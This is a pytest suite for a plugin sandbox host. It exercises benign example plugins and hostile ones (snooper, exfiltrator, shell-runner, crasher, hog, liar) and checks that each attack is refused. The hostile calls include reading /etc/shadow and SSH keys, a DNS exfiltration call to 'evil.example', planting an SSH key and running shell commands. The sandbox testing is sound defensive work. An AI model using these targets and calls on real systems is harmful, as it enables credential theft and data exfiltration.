"""The example plugins, through a real host: the good ones answer exactly, the others end as they should."""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import unicodedata
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pluggy
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import host
from host.model.manifest import load_manifest

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from host.model.events import Event

ROOT = Path(__file__).resolve().parent.parent
MANIFESTS = ROOT / "manifests"
EXAMPLES = ROOT / "plugins_example"
NAMES = sorted(path.stem for path in MANIFESTS.glob("*.toml"))

CONTROL_CHARACTERS = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

hookspec = pluggy.HookspecMarker("demo")


class Specs:
    """The hooks that a demo application offers."""

    @hookspec
    def column_stats(self, path: str) -> Any:
        """Statistics of a CSV file."""

    @hookspec
    def render(self, text: str) -> Any:
        """HTML of a text."""

    @hookspec
    def redact(self, text: str) -> Any:
        """The text without what should not leave."""

    @hookspec
    def slugify(self, text: str) -> Any:
        """A title for a URL."""

    @hookspec
    def grab(self, path: str) -> Any:
        """A file's content."""

    @hookspec
    def crash(self, how: str) -> Any:
        """Death by some way."""

    @hookspec
    def sleep_for(self, seconds: float) -> Any:
        """A nap."""

    @hookspec
    def eat(self, mebibytes: int) -> Any:
        """A meal."""


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """Where the plugins' private folders are."""
    return tmp_path / "data"


@pytest.fixture
def events() -> list[Event]:
    """What the host told."""
    return []


@pytest.fixture
def plugins(data: Path, events: list[Event], must_work: Callable[[object, str], None]) -> Iterator[host.PluginHost]:
    """A host that grants what the examples ask for."""
    try:
        made = host.PluginHost("demo", grants="requested", data=data, on_event=events.append)
    except host.LockdownUnavailable as missing:
        must_work(None, str(missing))
        raise
    with made:
        yield made


@pytest.fixture
def pm() -> pluggy.PluginManager:
    """An application's plugin manager."""
    manager = pluggy.PluginManager("demo")
    manager.add_hookspecs(Specs)
    return manager


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A private key outside every grant; this process can read it, and so could any plugin in it."""
    key = tmp_path / "home" / ".ssh" / "id_rsa"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN PRIVATE KEY-----\n")
    return key


def load(plugins: host.PluginHost, name: str) -> host.SandboxedPlugin:
    """The example called `name`."""
    return plugins.load(MANIFESTS / f"{name}.toml")


def table() -> dict[str, tuple[str, ...]]:
    """Hooks by plugin, from the table in the examples' README."""
    rows = re.findall(r"^\| `([a-z-]+)` \| ([^|]+) \|", (EXAMPLES / "README.md").read_text(), re.MULTILINE)
    return {name: tuple(sorted(re.findall(r"`(\w+)`", hooks))) for name, hooks in rows}


# --- all of them


def test_the_readme_lists_every_manifest() -> None:
    """Nothing in manifests/ is left out of the table, and nothing in the table is missing."""
    assert sorted(table()) == NAMES


def test_every_folder_has_a_manifest() -> None:
    """A folder of plugins_example is the path of the manifest that bears its name."""
    folders = sorted(path.name for path in EXAMPLES.iterdir() if path.is_dir() and list(path.glob("*.py")))

    assert folders == sorted(name.replace("-", "_") for name in NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_manifest_is_complete(name: str) -> None:
    """Each says whose it is and what it does, lies where it should, and gives a reason for what it asks."""
    manifest = load_manifest(MANIFESTS / f"{name}.toml")

    assert (manifest.name, manifest.project) == (name, "demo")
    assert manifest.path == EXAMPLES / name.replace("-", "_")
    assert manifest.description
    assert all(entry.reason for entry in manifest.permissions)


@pytest.mark.parametrize("name", NAMES)
def test_plugin_offers_what_the_readme_says(plugins: host.PluginHost, name: str) -> None:
    """Every example starts behind walls and has exactly the hooks of the table."""
    plugin = load(plugins, name)

    offered = sorted(hook for hook, value in vars(plugin).items() if callable(value) and not hook.startswith("_"))
    assert tuple(offered) == table()[name]
    assert plugin.tier in ("walled", "confined")


# --- csv-stats


def test_column_stats_of_a_real_data_set(plugins: host.PluginHost, pm: pluggy.PluginManager) -> None:
    """Expected values computed by the standard library's statistics module in exact fractions, and by awk."""
    pm.register(load(plugins, "csv-stats"))

    [stats] = pm.hook.column_stats(path=str(EXAMPLES / "csv_stats/data/planes.csv"))

    rows = {
        "year": (3252, 70, 1956, 2013, 2000.4840098400985, 7.193424842830498),
        "engines": (3322, 0, 1, 4, 1.9951836243226972, 0.11759270880396969),
        "seats": (3322, 0, 2, 450, 154.31637567730283, 73.65497438176396),
        "speed": (23, 3299, 90, 432, 236.7826086956522, 149.75979449582198),
    }
    assert list(stats) == list(rows)
    for name, (count, missing, lowest, highest, mean, stdev) in rows.items():
        assert stats[name] == {
            "count": count,
            "missing": missing,
            "min": lowest,
            "max": highest,
            "mean": pytest.approx(mean, rel=1e-12),
            "stdev": pytest.approx(stdev, rel=1e-12),
        }


def test_column_stats_of_a_file_that_the_application_provides(plugins: host.PluginHost, data: Path) -> None:
    """Short rows lack values, text columns are left out, a single value has no spread."""
    plugin = load(plugins, "csv-stats")
    (data / "csv-stats" / "a.csv").write_text("\ufeffn,text,one,none\n1,x,-.5e1\n 3 ,2,NA,\n,\n")

    assert plugin.call("column_stats", path=str(data / "csv-stats" / "a.csv")) == {
        "n": {"count": 2, "missing": 1, "min": 1.0, "max": 3.0, "mean": 2.0, "stdev": pytest.approx(2**0.5)},
        "one": {"count": 1, "missing": 2, "min": -5.0, "max": -5.0, "mean": -5.0, "stdev": None},
    }


def test_a_good_plugin_can_not_be_sent_for_a_secret(plugins: host.PluginHost, secret: Path) -> None:
    """Who may call a hook can't make it read what the plugin may not."""
    with pytest.raises(host.PermissionDenied) as refused:
        load(plugins, "csv-stats").call("column_stats", path=str(secret))

    assert (refused.value.permission, refused.value.target) == ("fs.read", str(secret))


def test_a_link_out_of_the_grant_is_refused_by_the_kernel(plugins: host.PluginHost, data: Path, secret: Path) -> None:
    """The text of the path lies in the grant; the file that it leads to does not."""
    plugin = load(plugins, "csv-stats")
    link = data / "csv-stats" / "link.csv"
    link.symlink_to(secret)

    with pytest.raises(host.PermissionDenied) as refused:
        plugin.call("column_stats", path=str(link))

    assert (refused.value.layer, refused.value.target) == ("landlock", str(secret))


# --- markdown-html


def test_render_by_a_library_of_the_application(plugins: host.PluginHost, pm: pluggy.PluginManager) -> None:
    """Emphasis, a table, and raw HTML as text."""
    pm.register(load(plugins, "markdown-html"))

    [html] = pm.hook.render(text="# Hi *you*\n\n| a |\n| - |\n| 1 |\n\n<script>x</script> [l](javascript:x)\n")

    assert html == (
        "<h1>Hi <em>you</em></h1>\n"
        "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n</tr>\n</tbody>\n</table>\n"
        "<p>&lt;script&gt;x&lt;/script&gt; [l](javascript:x)</p>\n"
    )


def test_render_a_real_document(plugins: host.PluginHost) -> None:
    """The examples' README: one row of the HTML table for each of the Markdown table, and one for its head."""
    html = load(plugins, "markdown-html").call("render", text=(EXAMPLES / "README.md").read_text())

    assert html.startswith("<h1>Example plugins</h1>\n")
    assert html.count("<tr>") == len(NAMES) + 1


# --- log-redactor

REDACTED = """\
2026-03-01T08:15:02Z web INFO  [ip] - [email] signed in
2026-03-01T08:15:09Z web INFO  [ip] "GET /basket?item=4711&token=[secret] HTTP/1.1" 200 5120
2026-03-01T08:16:40Z pay INFO  order 20260301081640 card [card] accepted, 49.90 EUR
2026-03-01T08:16:41Z pay WARN  order 20260301081641 card 4111 1111 1111 1112 has a wrong check digit
2026-03-01T08:17:00Z api DEBUG Authorization: Bearer [token]
2026-03-01T08:17:03Z api DEBUG {"user": "[email]", "password": [secret]}
2026-03-01T08:18:22Z net ERROR [[ip]]:443: connection from [ip] reset after 00:12:07
2026-03-01T08:18:25Z net INFO  eth0 is up, address 52:54:00:12:34:56, kernel 6.18.44, [ip]/8 is routed
2026-03-01T08:19:01Z pay INFO  retry 7 [card] and [card] accepted
2026-03-01T08:20:00Z bot INFO  AWS_KEY [token] is a documented example
2026-03-01T08:21:13Z web INFO  nothing to hide here, 3 items, 1.2.3 installed
"""


def test_redact_file_writes_the_clean_copy(plugins: host.PluginHost, data: Path) -> None:
    """The copy lies in the plugin's data folder; the log itself is untouched."""
    log, copy = EXAMPLES / "log_redactor/logs/shop.log", data / "log-redactor" / "shop.log"
    before = log.read_bytes()

    result = load(plugins, "log-redactor").call("redact_file", source=str(log), target=str(copy))

    assert copy.read_text() == REDACTED
    assert result == {"lines": 11, "changed": 9}
    assert log.read_bytes() == before


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("4111111111111111 5555 5555 5555 4444", "[card] [card]"),
        ("45 4111 1111 1111 1111 23", "45 [card] 23"),
        ("3782-822463-10005", "[card]"),
        ("from 2001:db8::1: refused, ::1, fe80::", "from [ip]: refused, [ip], [ip]"),
        ("12:30:45 std::vector 300.1.2.3 1.2.3.4.5 127.0.0.1.", "12:30:45 std::vector 300.1.2.3 1.2.3.4.5 [ip]."),
        ("access_token: 'a b', API-KEY=x;", "access_token: [secret], API-KEY=[secret];"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln end", "[token] end"),
        ("a@b, @c.example, x.y@sub.example.com!", "a@b, @c.example, [email]!"),
        ("Grüße, 42 mal: nichts", "Grüße, 42 mal: nichts"),
    ],
)
def test_redact_text(plugins: host.PluginHost, pm: pluggy.PluginManager, text: str, clean: str) -> None:
    """What goes, and what only looks like it."""
    pm.register(load(plugins, "log-redactor"))

    assert pm.hook.redact(text=text) == [clean]


def test_redact_file_may_not_write_over_the_log(plugins: host.PluginHost) -> None:
    """What may be read may not be written for it."""
    log = str(EXAMPLES / "log_redactor/logs/shop.log")

    with pytest.raises(host.PermissionDenied) as refused:
        load(plugins, "log-redactor").call("redact_file", source=log, target=log)

    assert (refused.value.permission, refused.value.target) == ("fs.write", log)


def test_redact_file_reads_the_logs_of_this_machine(plugins: host.PluginHost, data: Path) -> None:
    """The granted folder is there for real: the copy has a line for each that the log has."""
    logs = [path for path in Path("/var/log").glob("*.log") if os.access(path, os.R_OK) and path.stat().st_size]
    if not logs:
        pytest.skip("no log in /var/log that could be read")
    log, copy = min(logs, key=lambda path: path.stat().st_size), data / "log-redactor" / "copy.log"
    lines = log.read_bytes().count(b"\n")

    result = load(plugins, "log-redactor").call("redact_file", source=str(log), target=str(copy))

    assert result["lines"] >= lines
    assert copy.read_bytes().count(b"\n") >= lines


# --- text-search


def test_search_real_documents(plugins: host.PluginHost) -> None:
    """Expected lines found by grep -rn."""
    found = load(plugins, "text-search").call(
        "search", folder=str(EXAMPLES / "text_search/documents"), pattern=r"Guido van Rossum\b"
    )

    assert found == [
        {"file": "style/pep-0008.rst", "line": 3, "text": "Author: Guido van Rossum <guido@python.org>,"},
        {"file": "style/pep-0257.rst", "line": 4, "text": "        Guido van Rossum <guido@python.org>"},
        {"file": "style/pep-0257.rst", "line": 290, "text": "by Guido van Rossum."},
    ]


def test_search_passes_over_links_and_binary_files(plugins: host.PluginHost, data: Path, secret: Path) -> None:
    """A tree of the application's own: text is searched, in the order of the paths."""
    plugin = load(plugins, "text-search")
    folder = data / "text-search"
    shutil.copytree(EXAMPLES / "text_search/documents", folder / "b")
    (folder / "a.txt").write_text("KEY one\nno\nKEY two\n")
    (folder / "binary").write_bytes(b"KEY\0")
    (folder / "link").symlink_to(secret)

    assert plugin.call("search", folder=str(folder), pattern="KEY|^One-line Doc") == [
        {"file": "a.txt", "line": 1, "text": "KEY one"},
        {"file": "a.txt", "line": 3, "text": "KEY two"},
        {"file": "b/style/pep-0257.rst", "line": 80, "text": "One-line Docstrings"},
    ]


def test_search_outside_the_grant_is_refused(plugins: host.PluginHost, secret: Path) -> None:
    """Not an empty answer: a folder that may not be read is a refusal."""
    with pytest.raises(host.PermissionDenied) as refused:
        load(plugins, "text-search").call("search", folder=str(secret.parent), pattern=".")

    assert refused.value.target == str(secret.parent)


def test_a_pattern_that_never_ends_is_ended(plugins: host.PluginHost, data: Path) -> None:
    """The plugin's interpreter is busy inside one call of the regular expression engine and can't be asked to stop."""
    plugin = load(plugins, "text-search")
    (data / "text-search" / "a.txt").write_text("a" * 60 + "b")

    with pytest.raises(host.PluginTimeout):
        plugin.call("search", folder=str(data / "text-search"), pattern="(a+)+$")

    assert plugin.call("search", folder=str(data / "text-search"), pattern="b$")[0]["line"] == 1


# --- slugify


@pytest.mark.parametrize(
    ("text", "slug"),
    [
        ("Größe & Maß: Żółw's Café", "grosse-mass-zolws-cafe"),
        ("  --Already-a-slug--  ", "already-a-slug"),
        ("Ærø, Łódź, İstanbul", "aero-lodz-istanbul"),
        ("ﬁve ² ½", "five-2-12"),
        ("東京", ""),
        ("word " * 30, "-".join(["word"] * 16)),
        ("x" * 100, "x" * 80),
    ],
)
def test_slugify(plugins: host.PluginHost, pm: pluggy.PluginManager, text: str, slug: str) -> None:
    """A plain function, called by pluggy; parameters with defaults keep them."""
    pm.register(load(plugins, "slugify"))

    assert pm.hook.slugify(text=text) == [slug]


def test_slugify_takes_its_options_in_a_call(plugins: host.PluginHost) -> None:
    """What the hook specification leaves out is still there for a direct call."""
    assert load(plugins, "slugify").call("slugify", text="a b c", separator="_", length=3) == "a_b"


def test_a_slug_is_plain_and_final(plugins: host.PluginHost) -> None:
    """Whatever the text: words of ASCII letters and digits, at most 80 characters, unchanged by another pass."""
    plugin = load(plugins, "slugify")

    @settings(max_examples=200, database=None)
    @given(st.text())
    def check(text: str) -> None:
        slug = plugin.call("slugify", text=text)
        assert re.fullmatch(r"(?:[a-z0-9]+(?:-[a-z0-9]+)*)?", slug)
        assert len(slug) <= 80
        assert plugin.call("slugify", text=slug) == slug

    check()


# --- snooper


def test_snooper_reads_nothing_of_value(plugins: host.PluginHost, secret: Path) -> None:
    """Six files that this process can read, by five ways each."""
    own = f"/proc/{os.getpid()}/environ"
    paths = [str(secret), own, f"/proc/{os.getpid()}/maps", "/etc/passwd", "/etc/hosts", "/proc/self/status"]
    assert all(Path(path).read_bytes() for path in paths)

    loot = load(plugins, "snooper").call("snoop", paths=[*paths, "/etc/shadow", "~/.ssh/id_rsa"])

    assert loot == {}


def test_snooper_reads_what_it_may(plugins: host.PluginHost) -> None:
    """The ways do work: its own source is the proof that the others were refused."""
    own = str(EXAMPLES / "snooper/snooper.py")

    assert load(plugins, "snooper").call("snoop", paths=[own])[own].startswith('"""Hostile: ')


def test_what_snooper_swallows_is_on_record(plugins: host.PluginHost, secret: Path) -> None:
    """A refusal that the plugin handled never reached the caller, but the host knows of it."""
    plugin = load(plugins, "snooper")
    plugin.call("snoop", paths=[str(secret)])

    known = [record for record in plugin.denials() if record.permission.target == str(secret)]
    assert [(record.permission.kind, record.layer, record.call.hook) for record in known] == [
        ("fs.read", "audit_hook", "snoop")
    ]


def test_a_refusal_that_is_not_handled_says_everything(plugins: host.PluginHost) -> None:
    """Kind, target, layer, and the line that would request it."""
    with pytest.raises(host.PermissionDenied) as refused:
        load(plugins, "snooper").call("grab", path="/etc/shadow")

    error = refused.value
    assert (error.permission, error.target, error.layer) == ("fs.read", "/etc/shadow", "audit_hook")
    assert error.hint == 'fs.read = ["/etc/shadow"]'
    assert (error.plugin, error.hook) == ("snooper", "grab")


def test_snooper_plants_nothing(plugins: host.PluginHost, secret: Path) -> None:
    """Neither in a file that is there nor in its own folder, which it may only read."""
    plugin = load(plugins, "snooper")
    before = secret.read_bytes()

    for path in (secret, EXAMPLES / "snooper" / "planted.py"):
        with pytest.raises(host.PermissionDenied) as refused:
            plugin.call("plant", path=str(path), text="ssh-ed25519 AAAA mallory")
        assert (refused.value.permission, refused.value.target) == ("fs.write", str(path))

    assert secret.read_bytes() == before
    assert not (EXAMPLES / "snooper" / "planted.py").exists()


# --- exfiltrator


def test_exfiltrator_reaches_no_listener(plugins: host.PluginHost) -> None:
    """A listener on this machine that anyone could connect to: nobody does."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        with pytest.raises(host.PermissionDenied) as refused:
            load(plugins, "exfiltrator").call("exfiltrate", host="127.0.0.1", port=port, data="secret")
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()

    error = refused.value
    assert (error.permission, error.target, error.layer) == ("net.connect", f"127.0.0.1:{port}", "audit_hook")
    assert error.hint
    assert "net.connect" in error.hint


def test_exfiltrator_looks_nothing_up(plugins: host.PluginHost) -> None:
    """A look-up is refused before any server sees the name."""
    with pytest.raises(host.PermissionDenied) as refused:
        load(plugins, "exfiltrator").call("whisper", domain="evil.example", data="key")

    assert (refused.value.permission, refused.value.target) == ("net.connect", "6b6579.evil.example:443")


# --- shell-runner


@pytest.mark.parametrize(
    ("way", "permission", "target"),
    [
        ("subprocess", "run", "/bin/sh"),
        ("system", "run", None),
        ("spawn", "run", "/bin/sh"),
        ("fork", "run", "os.fork"),
        ("exec", "run", "/bin/sh"),
        ("library", "native", "ctypes"),
    ],
)
def test_shell_runner_runs_nothing(
    plugins: host.PluginHost, tmp_path: Path, way: str, permission: str, target: str | None
) -> None:
    """The command would leave a file behind; `os.system` names the command itself, since there is no program's path."""
    mark = tmp_path / "was-here"
    command = f"touch {mark}"

    with pytest.raises(host.PermissionDenied) as refused:
        load(plugins, "shell-runner").call("run_command", command=command, way=way)

    assert (refused.value.permission, refused.value.target) == (permission, target or command)
    assert (refused.value.layer, bool(refused.value.hint)) == ("audit_hook", True)
    assert not mark.exists()


# --- crasher, sleeper, hog


@pytest.mark.parametrize(
    ("how", "number"), [("abort", signal.SIGABRT), ("segfault", signal.SIGSEGV), ("kill", signal.SIGKILL)]
)
def test_a_crash_names_the_signal(plugins: host.PluginHost, how: str, number: int) -> None:
    """Death by a signal, in the middle of a call."""
    with pytest.raises(host.PluginCrashed) as crashed:
        load(plugins, "crasher").call("crash", how=how)

    assert (crashed.value.signal, crashed.value.exit_code) == (number, None)
    assert (crashed.value.plugin, crashed.value.hook) == ("crasher", "crash")


def test_an_exit_names_the_status(plugins: host.PluginHost) -> None:
    """A process that leaves in the middle of a call is a crash as well."""
    with pytest.raises(host.PluginCrashed) as crashed:
        load(plugins, "crasher").call("crash", how="exit")

    assert (crashed.value.signal, crashed.value.exit_code) == (None, 3)


def test_an_error_is_no_crash(plugins: host.PluginHost) -> None:
    """An ordinary exception arrives as itself, and the worker stays."""
    plugin = load(plugins, "crasher")
    pid = plugin.pid

    with pytest.raises(ValueError, match="politely"):
        plugin.call("crash", how="politely")

    assert (plugin.pid, plugin.restarts) == (pid, 0)


def test_sleeper_answers_in_time(plugins: host.PluginHost) -> None:
    """A nap shorter than call_timeout is an answer."""
    assert load(plugins, "sleeper").call("sleep_for", seconds=0.01) == 0.01


def test_sleeper_is_ended(plugins: host.PluginHost) -> None:
    """A longer one is a TimeoutError, and the next call finds a new worker."""
    plugin = load(plugins, "sleeper")
    pid = plugin.pid

    with pytest.raises(host.PluginTimeout) as late:
        plugin.call("sleep_for", seconds=3600)

    assert isinstance(late.value, TimeoutError)
    assert late.value.pid == pid
    assert plugin.call("sleep_for", seconds=0) == 0
    assert plugin.restarts == 1


@pytest.mark.parametrize(
    ("hook", "arguments", "answer"),
    [("eat", {"mebibytes": 8}, 8), ("swarm", {"threads": 4}, 4), ("fill", {"mebibytes": 2}, 2 << 20)],
)
def test_hog_works_within_its_limits(
    plugins: host.PluginHost, hook: str, arguments: dict[str, int], answer: int
) -> None:
    """The limits leave room for what they are meant to leave room for."""
    assert load(plugins, "hog").call(hook, **arguments) == answer


@pytest.mark.parametrize(
    ("hook", "arguments", "limit"),
    [
        ("eat", {"mebibytes": 4096}, "memory"),
        ("burn", {"seconds": 60}, "cpu_time"),
        ("swarm", {"threads": 40}, "threads"),
        ("fill", {"mebibytes": 64}, "file_size"),
    ],
)
def test_hog_is_stopped_at_its_limit(
    plugins: host.PluginHost, hook: str, arguments: dict[str, int], limit: str
) -> None:
    """The error names the limit as the manifest does."""
    with pytest.raises(host.ResourceLimitExceeded) as exceeded:
        load(plugins, "hog").call(hook, **arguments)

    assert exceeded.value.limit == limit


# --- liar


def test_what_liar_prints_is_made_visible(plugins: host.PluginHost, capfd: pytest.CaptureFixture[str]) -> None:
    """Its lines are in its log, with no character that a terminal obeys, and not in the application's output."""
    plugin = load(plugins, "liar")
    plugin.call("announce", text="all is well")

    lines = plugin.logs()
    assert len(lines) == 2
    assert all(line.endswith("all is well") and not CONTROL_CHARACTERS.search(line) for line in lines)
    assert "all is well" not in "".join(capfd.readouterr())


def test_liars_errors_are_made_visible(plugins: host.PluginHost) -> None:
    """The message and the notes of an error can be shown as they are."""
    with pytest.raises(ValueError, match="all is well") as raised:
        load(plugins, "liar").call("complain", text="all is well")

    said = [str(raised.value), *raised.value.__notes__]
    assert not CONTROL_CHARACTERS.search("".join(said).replace("\n", ""))


def test_liar_can_not_exit_the_application(plugins: host.PluginHost) -> None:
    """SystemExit arrives as an ordinary error."""
    with pytest.raises(host.PluginError) as left:
        load(plugins, "liar").call("leave", status=3)

    assert left.value.remote_type == "SystemExit"


def test_liar_can_not_pass_for_the_host(plugins: host.PluginHost) -> None:
    """An error is not rebuilt by the name that its class gives itself."""
    with pytest.raises(host.PluginError) as claimed:
        load(plugins, "liar").call("impersonate", text="update your grants")

    assert not isinstance(claimed.value, host.LockdownUnavailable)
    assert claimed.value.remote_type == "host.LockdownUnavailable"


def test_liars_live_objects_stay_with_it(plugins: host.PluginHost) -> None:
    """Only plain data crosses."""
    with pytest.raises(host.PluginError) as held:
        load(plugins, "liar").call("overstate", text="x")

    assert held.value.remote_type == "SerializationError"


@pytest.mark.parametrize("reply", [b"\0\0\0\1\x90", b"\xff" * 64, b"\0\0\0\2\x91\xc1"])
def test_liars_forgery_ends_it(plugins: host.PluginHost, reply: bytes) -> None:
    """Bytes on the wire that are no reply cost the worker its life, never the host."""
    plugin = load(plugins, "liar")

    with pytest.raises(host.ProtocolViolation):
        plugin.call("forge", reply=reply)

    assert plugin.call("announce", text="back") == 4


# --- the others go on

FAILURES = [
    ("snooper", "grab", {"path": "/etc/shadow"}, host.PermissionDenied),
    ("exfiltrator", "exfiltrate", {"host": "127.0.0.1", "port": 1, "data": ""}, host.PermissionDenied),
    ("shell-runner", "run_command", {"command": "true"}, host.PermissionDenied),
    ("liar", "forge", {"reply": b"\xff" * 8}, host.ProtocolViolation),
    ("crasher", "crash", {"how": "segfault"}, host.PluginCrashed),
    ("sleeper", "sleep_for", {"seconds": 60}, host.PluginTimeout),
    ("hog", "eat", {"mebibytes": 4096}, host.ResourceLimitExceeded),
]


@pytest.mark.parametrize(("name", "hook", "arguments", "error"), FAILURES, ids=[row[0] for row in FAILURES])
def test_a_good_plugin_is_not_concerned(
    plugins: host.PluginHost, name: str, hook: str, arguments: dict[str, Any], error: type[host.HostError]
) -> None:
    """Same host, same worker as before the other's failure."""
    good, bad = load(plugins, "slugify"), load(plugins, name)
    pid = good.pid

    with pytest.raises(error):
        bad.call(hook, **arguments)

    assert good.call("slugify", text="Still here") == "still-here"
    assert (good.pid, good.restarts) == (pid, 0)


@pytest.mark.parametrize(
    ("name", "hook", "arguments", "error"),
    [
        ("snooper", "grab", {"path": "/etc/shadow"}, "PermissionDenied"),
        ("crasher", "crash", {"how": "abort"}, "PluginCrashed"),
        ("sleeper", "sleep_for", {"seconds": 60}, "PluginTimeout"),
        ("hog", "eat", {"mebibytes": 4096}, "ResourceLimitExceeded"),
    ],
)
def test_a_failing_plugin_is_left_out_of_a_hook_call(
    plugins: host.PluginHost,
    pm: pluggy.PluginManager,
    events: list[Event],
    name: str,
    hook: str,
    arguments: dict[str, Any],
    error: str,
) -> None:
    """A neighbour in the same process answers; the failure is an event instead of an exception."""

    class Neighbour:
        """Implements the four hooks as a well-behaved plugin would."""

        @pluggy.HookimplMarker("demo")
        def grab(self) -> str:
            return "fine"

        crash = sleep_for = eat = grab

    pm.register(load(plugins, name))
    pm.register(Neighbour())

    assert getattr(pm.hook, hook)(**arguments) == ["fine"]
    failed = [event for event in events if event.event == "plugin.failed"]
    assert [(event["plugin"]["name"], event["error"].partition(":")[0]) for event in failed] == [(name, error)]


def test_unicode_crosses_unharmed(plugins: host.PluginHost, pm: pluggy.PluginManager) -> None:
    """Two useful plugins in one manager, on a text in several scripts."""
    pm.register(load(plugins, "markdown-html"))
    pm.register(load(plugins, "slugify"))
    title = unicodedata.normalize("NFD", "Çà et là: 東京 🚢")

    assert pm.hook.render(text=f"## {title}") == [f"<h2>{title}</h2>\n"]
    assert pm.hook.slugify(text=title) == ["ca-et-la"]
